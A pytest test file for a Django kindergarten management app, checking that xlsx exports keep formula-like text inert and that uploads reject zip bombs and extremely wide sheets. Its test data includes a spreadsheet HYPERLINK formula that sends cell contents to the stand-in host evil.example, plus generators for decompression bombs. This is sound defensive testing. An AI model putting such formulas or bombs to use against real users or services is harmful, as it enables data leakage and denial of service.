"""xlsx files in and out: a text that starts with ``=`` stays a text (never a live formula) and
reads back unchanged; a zip bomb or a sheet thousands of columns wide is a form error, decided
before parsing or inside a child process with a memory and time ceiling, never a 500 or a
swollen worker."""

import functools
import io
import resource
import time
import zipfile

import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from import_export.admin import ImportExportMixinBase
from openpyxl import Workbook, load_workbook

from campus.exports import xlsx_register
from campus.roles import Role
from campus.roster import RosterFileError, export_roster, import_roster, read_roster
from campus.spreadsheets import SafeXLSX, XlsxRejected, check_xlsx, parse_bounded, read_xlsx_dataset
from kitchen.models import Ingredient

EVIL = '=HYPERLINK("http://evil.example/?d="&B5,"点我")'
HEADERS = ["编号", "姓名", "性别", "出生日期", "班级", "入园日期", "离园日期", "过敏史", "备注", "家长姓名", "家长电话", "关系"]


@pytest.fixture(autouse=True)
def zh():
    with translation.override("zh-hans"):
        yield


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))


# --- formulas -------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_roster_name_that_looks_like_a_formula_stays_text_and_imports_back(world):
    world.child.name = EVIL
    world.child.save()
    content = export_roster(world.campus)
    assert "<f>" not in sheet_xml(content) and "HYPERLINK" in sheet_xml(content)
    cell = next(c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row if c.value == EVIL)
    assert cell.data_type == "s"
    names = [row[1] for row in read_roster(content)]
    assert EVIL in names
    outcome = import_roster(world.campus, content, world.user(Role.DIRECTOR), dry_run=True)
    assert outcome.ok and not any(row.errors for row in outcome.rows())
    assert {row.kind for row in outcome.rows()} == {"skip"}  # nothing changes: the name came back as it was


def test_the_register_writer_writes_every_text_as_text():
    content = xlsx_register(EVIL, EVIL, "2025-03", [EVIL, "体温"], [[EVIL, 36.6], ["=1+1", "=A4"]], signatures=[EVIL])
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    values = [c.value for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    assert values.count(EVIL) == 4 and "=1+1" in values and 36.6 in values


@pytest.mark.django_db
def test_a_health_register_export_has_no_formula(world, client_as, clock):
    clock.at("07:00")
    world.child.name = EVIL
    world.child.save()
    from health import services
    from health.choices import CheckAction, CheckSession, Finding
    from health.services import CheckEntry

    day = timezone.localdate()
    services.submit_class_check(world.classroom, day, CheckSession.MORNING, {world.child.pk: CheckEntry(
        action=CheckAction.SENT_HOME, temperature="38.6", findings=[Finding.FEVER])}, world.user("health_teacher"))
    response = client_as(world.user("health_teacher")).get(
        f"/health/registers/checks/?first={day}&last={day}&format=xlsx")
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content) and "HYPERLINK" in sheet_xml(response.content)


def test_every_import_export_admin_reads_and_writes_xlsx_safely():
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ImportExportMixinBase):
            xlsx_formats = [f for f in model_admin.get_import_formats() + model_admin.get_export_formats()
                            if f().get_extension() == "xlsx"]
            assert xlsx_formats and all(issubclass(f, SafeXLSX) for f in xlsx_formats), model_admin


def test_the_admin_format_round_trips_a_formula_like_text():
    import tablib

    dataset = tablib.Dataset([EVIL, 1.5], headers=["name", "value"])
    content = SafeXLSX().export_data(dataset)
    assert "<f>" not in sheet_xml(content)
    back = SafeXLSX().create_dataset(content)
    assert back.headers == ["name", "value"] and back[0] == (EVIL, 1.5)


# --- bombs ----------------------------------------------------------------------------------------------


def workbook_with_sheet(*chunks: bytes, repeat: int = 1) -> bytes:
    """A real workbook whose first sheet's XML is ``chunks`` (the middle one written ``repeat``
    times, streamed into the zip: the test itself never holds the inflated XML)."""
    wb = Workbook()
    wb.active.append(HEADERS)
    buffer = io.BytesIO()
    wb.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info.filename, source.read(info))
                continue
            with target.open(info.filename, "w", force_zip64=True) as part:
                head, *middle, tail = chunks if len(chunks) > 1 else (b"", *chunks, b"")
                part.write(head)
                for _ in range(repeat):
                    for chunk in middle:
                        part.write(chunk)
                part.write(tail)
    return out.getvalue()


NS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


@functools.cache
def inflating_bomb() -> bytes:
    """~210 MB of sheet XML in well under 1 MB: rows of the same cell, as in the report."""
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"x" * 200 + b"</t></is></c></row>"
    block = row * 4096
    return workbook_with_sheet(NS + b"<sheetData>", block, b"</sheetData></worksheet>",
                               repeat=210 * 1024 * 1024 // len(block))


def wide_rows(rows=5000) -> bytes:
    """Small when unpacked too (passes the directory checks), no <dimension>: one cell in column
    XFD per row makes every row 16,384 values wide — gigabytes for a plain reader."""
    body = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c><c r="XFD%d"><v>1</v></c></row>' % (n, n, n)
                    for n in range(1, rows + 1))
    return workbook_with_sheet(NS + b"<sheetData>" + body + b"</sheetData></worksheet>")


def test_an_inflating_bomb_is_refused_from_the_zip_directory_before_parsing():
    bomb = inflating_bomb()
    assert len(bomb) < 1024 * 1024
    started = time.perf_counter()
    with pytest.raises(XlsxRejected) as exc:
        check_xlsx(bomb)
    assert time.perf_counter() - started < 0.5
    assert "表格太大" in exc.value.messages[0]
    with pytest.raises(RosterFileError, match="表格太大"):
        read_roster(bomb)


def test_a_lying_dimension_is_refused_before_parsing():
    content = workbook_with_sheet(NS + b'<dimension ref="A1:XFD1048576"/><sheetData/></worksheet>')
    with pytest.raises(XlsxRejected, match="表格太大"):
        check_xlsx(content)


@pytest.mark.parametrize("reader", [read_roster, read_xlsx_dataset])
def test_a_sheet_thousands_of_columns_wide_is_refused_while_reading_and_the_worker_stays_small(reader):
    content = wide_rows()
    check_xlsx(content)  # nothing in the directory gives it away
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises((XlsxRejected, RosterFileError), match="表格太大"):
        reader(content)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024  # KB: under 50 MB more


def _allocate(megabytes):
    return len(bytearray(megabytes * 1024 * 1024))


def _sleep(seconds):
    time.sleep(seconds)


def test_the_parse_has_a_memory_ceiling(settings):
    settings.XLSX_PARSE_MEMORY_MB = 200
    assert parse_bounded(_allocate, 20) == 20 * 1024 * 1024
    with pytest.raises(XlsxRejected, match="表格太大"):
        parse_bounded(_allocate, 2000)


def test_the_parse_has_a_time_ceiling(settings):
    settings.XLSX_PARSE_SECONDS = 1
    started = time.perf_counter()
    with pytest.raises(XlsxRejected, match="时间太长"):
        parse_bounded(_sleep, 30)
    assert time.perf_counter() - started < 5


def test_an_error_of_the_parse_comes_back_as_itself():
    with pytest.raises(RosterFileError, match="表头"):
        read_roster(workbook_with_sheet(NS + b"<sheetData/></worksheet>"))


# --- the views ------------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("make", [inflating_bomb, wide_rows])
def test_the_roster_upload_answers_a_bomb_with_a_form_error(world, client_as, make):
    client = client_as(world.user(Role.DIRECTOR))
    response = client.post(reverse("campus:roster_import"),
                           {"file": SimpleUploadedFile("花名册.xlsx", make())}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 200 and "表格太大" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("make", [inflating_bomb, wide_rows])
def test_the_ingredient_import_answers_a_bomb_with_a_form_error(world, client_as, make):
    client = client_as(world.user("health_teacher"))
    before = Ingredient.objects.count()
    response = client.post(reverse("kitchen:ingredient_import"),
                           {"file": SimpleUploadedFile("食物成分表.xlsx", make())}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 200 and "表格太大" in response.content.decode()
    assert Ingredient.objects.count() == before
